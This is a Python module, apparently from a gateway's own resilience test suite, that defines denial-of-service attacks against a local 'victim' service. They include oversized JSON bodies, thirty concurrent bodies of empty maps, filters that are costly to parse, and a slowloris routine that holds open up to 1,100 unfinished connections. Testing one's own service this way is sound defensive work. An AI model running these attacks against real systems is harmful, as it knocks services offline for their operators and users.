"""What an attacker asks a gateway."""

from __future__ import annotations

import asyncio
from typing import Final
from urllib.parse import quote

from attacks.gateways import MIB, TOKEN, Victim, head, post, roomy
from attacks.protocol import Attack, costly_filters

ZEROS: Final = b"[" + b"0," * (MIB // 2 - 2) + b"0]"


async def body_without_a_token(victim: Victim) -> None:
    for _ in range(10):
        await asyncio.to_thread(victim.ask, post(ZEROS))


async def body_with_a_token(victim: Victim) -> None:
    for _ in range(10):
        await asyncio.to_thread(victim.ask, post(ZEROS, TOKEN))


async def crowd_of_maps(victim: Victim) -> None:
    """Thirty bodies at once, each an event of 350,000 empty maps."""
    maps = b'{"type": "q", "data": {"x": [' + b"{}," * (MIB // 3 - 100) + b"{}]}}"
    await asyncio.gather(*[asyncio.to_thread(victim.ask, post(maps, TOKEN)) for _ in range(30)])


async def filter_without_a_token(victim: Victim) -> None:
    for _, text in zip(range(20), costly_filters(), strict=False):
        await asyncio.to_thread(victim.ask, head("GET", f"/events?filter={quote(text)}"))


async def filter_with_a_token(victim: Victim) -> None:
    """Streams whose filters take long to parse; each is left at once."""

    def ask(text: str) -> None:
        with victim.connect() as end:
            end.sendall(head("GET", f"/events?filter={quote(text)}", TOKEN))
            end.recv(100)

    for _, text in zip(range(10), costly_filters(), strict=False):
        await asyncio.to_thread(ask, text)


async def slowloris(victim: Victim) -> None:
    """Requests that never end, more than the process has descriptors."""
    with roomy(4096):
        ends = []
        try:
            for _ in range(1100):
                try:
                    end = await asyncio.to_thread(victim.connect)
                except OSError:
                    break
                ends.append(end)
                end.sendall(b"POST /events HTTP/1.1\r\nhost: localhost\r\nx-slow: ")
            await asyncio.sleep(3)
        finally:
            for end in ends:
                end.close()


GATEWAY_ATTACKS: Final[list[Attack]] = [
    body_without_a_token,
    body_with_a_token,
    crowd_of_maps,
    filter_without_a_token,
    filter_with_a_token,
    slowloris,
]
